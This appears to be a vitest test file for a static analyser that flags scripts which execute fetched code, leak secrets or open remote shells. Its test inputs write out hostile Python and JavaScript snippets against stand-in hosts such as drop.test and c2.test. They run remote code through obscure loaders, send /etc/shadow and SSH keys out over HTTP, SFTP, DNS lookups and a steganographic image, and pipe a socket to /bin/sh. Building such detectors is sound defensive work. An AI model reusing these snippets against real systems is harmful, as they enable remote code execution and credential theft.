import { describe, expect, test } from "vitest";
import { makeSource } from "../../testing/make-source.ts";
import { showAnalysis, showFlows } from "../../testing/show-analysis.ts";
import { analyseProgram } from "./analyse-program.ts";

const PAGE = "https://load.test/x";

function python(...lines: readonly string[]): readonly string[] {
  const source = makeSource(lines.join("\n"), { file: "run.py", language: "python", medium: "script" });
  return showFlows(analyseProgram(source));
}

function javascript(...lines: readonly string[]): readonly string[] {
  const source = makeSource(lines.join("\n"), { file: "run.mjs", language: "javascript", medium: "script" });
  return showAnalysis(analyseProgram(source));
}

describe("Python: what is fetched runs on rarely used ways, too", () => {
  const fetched = ["import urllib.request, sys", `urllib.request.urlretrieve("${PAGE}", "/tmp/m.zip")`];
  test.each<[string, string[], string]>([
    [
      "a module by its path",
      [...fetched, "import importlib.util", `importlib.util.spec_from_file_location("m", "/tmp/m.zip")`],
      "network load.test -> execute:file importlib.util.spec_from_file_location",
    ],
    [
      "a folder that modules come from",
      [...fetched, `sys.path.insert(0, "/tmp/m.zip")`, "import m"],
      "network load.test -> execute:library sys.path.insert",
    ],
    [
      "bytes in memory",
      [
        "import ctypes, urllib.request",
        `b = urllib.request.urlopen("${PAGE}").read()`,
        "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.create_string_buffer(b)))()",
      ],
      "network load.test -> execute:eval ctypes.function",
    ],
    [
      "the dictionary of the built-ins",
      [
        "import urllib.request",
        `__builtins__.__dict__["ex" + "ec"](urllib.request.urlopen("${PAGE}").read())`,
      ],
      "network load.test -> execute:eval exec",
    ],
  ])("%s", (_title, lines, expected) => {
    expect(python(...lines).map(withoutUrl)).toContain(expected);
  });
});

test("JavaScript: a secret leaves in a name that a resolver made for it looks up", () => {
  const send = `await new Resolver().resolveMx(process.env.API_TOKEN + ".drop.test")`;
  expect(javascript(`import { Resolver } from "node:dns/promises";`, send).join("\n")).toContain(
    "API_TOKEN -> network:dns *.drop.test",
  );
});

describe("Python: secrets leave on rarely used ways, too", () => {
  test("in a picture that was saved with them", () => {
    const send = `requests.post("https://pictures.test/in", files={"f": open("b.png", "rb")})`;
    const hide = (made: string): readonly string[] =>
      python(
        "from stegano import lsb",
        "import requests",
        `k = open("/root/.ssh/id_rsa").read()`,
        made,
        send,
      );
    expect(hide(`lsb.hide("a.png", k).save("b.png")`).join("\n")).toMatch(/secret:ssh [^\n]+ -> network/);
    expect(hide(`lsb.hide("a.png", "hello").save("b.png")`).join("\n")).not.toMatch(
      /secret:ssh [^\n]+ -> network/,
    );
  });

  test("through the fields of an object that only names them", () => {
    const flows = python(
      "import requests",
      "from dataclasses import dataclass, asdict",
      "@dataclass",
      "class Report:",
      "    key: str",
      `report = Report(key=open("/etc/shadow").read())`,
      `requests.post("https://drop.test/x", json=asdict(report))`,
    );
    expect(flows).toContain("secret:system-accounts /etc/shadow -> network:http drop.test");
  });

  test("as a file that is copied over a connection", () => {
    const flows = python(
      "import paramiko",
      `link = paramiko.Transport(("drop.test", 22))`,
      `paramiko.SFTPClient.from_transport(link).put("/etc/shadow", "s")`,
    );
    expect(flows).toEqual(["secret:system-accounts /etc/shadow -> network:copy drop.test"]);
  });
});

describe("JavaScript: what is fetched runs on rarely used ways, too", () => {
  const fetched = `const text = await (await fetch("${PAGE}")).text();`;
  test.each<[string, string, string]>([
    ["an address that is the code", `await import("data:text/javascript," + text);`, "execute:eval import"],
    ["the maker of functions", "(async () => {}).constructor(text)();", "execute:eval Function"],
    [
      "a worker",
      `import { Worker } from "node:worker_threads"; new Worker(text, { eval: true });`,
      "execute:eval worker_threads.Worker",
    ],
    ["a module in the making", `new (require("module"))()._compile(text, "x");`, "execute:eval"],
  ])("%s", (_title, line, expected) => {
    expect(javascript(fetched, line).join("\n")).toContain(expected);
  });

  test("a worker from a file of the program is nothing", () => {
    expect(
      javascript(`import { Worker } from "node:worker_threads";`, `new Worker("./worker.mjs");`),
    ).toEqual([]);
  });

  test("a connection that is piped to a shell where it calls back is a remote shell", () => {
    const acts = javascript(
      `const { connect } = require("net"), { spawn } = require("child_process");`,
      `const link = connect(443, "c2.test", () => { const shell = spawn("/bin/sh"); link.pipe(shell.stdin); });`,
    );
    expect(acts.some((act) => act.includes("remote-shell") && act.includes("c2.test"))).toBe(true);
  });
});

function withoutUrl(flow: string): string {
  return flow.replace(/https?:\/\/([^/\s]+)\S*/, "$1");
}
